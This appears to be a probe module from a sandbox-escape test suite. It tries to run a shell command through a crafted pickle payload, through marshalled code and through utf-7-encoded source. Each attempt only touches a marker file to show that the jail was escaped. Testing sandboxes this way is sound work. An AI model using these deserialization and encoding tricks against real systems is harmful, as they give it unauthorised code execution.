# proof: mark
# behind: jail
# Brings code along as data, and has it run by what usually reads data.
from routes import first


def pickled(path):
    import pickle

    pickle.loads(b"cposix\nsystem\n(S'/usr/bin/touch " + path.encode() + b"'\ntR.")


def marshalled(path):
    import marshal

    code = compile("import posix\nposix.system('/usr/bin/touch " + path + "')", "x", "exec")
    exec(marshal.loads(marshal.dumps(code)), {})


def coded(path):
    text = ("# coding: utf-7\nimport posix\nposix.system('/usr/bin/touch " + path + "')").encode("utf-7")
    exec(compile(text, "x", "exec"), {})


def attempt(input, caps):
    path = input["mark"]
    return first(lambda: pickled(path), lambda: marshalled(path), lambda: coded(path))
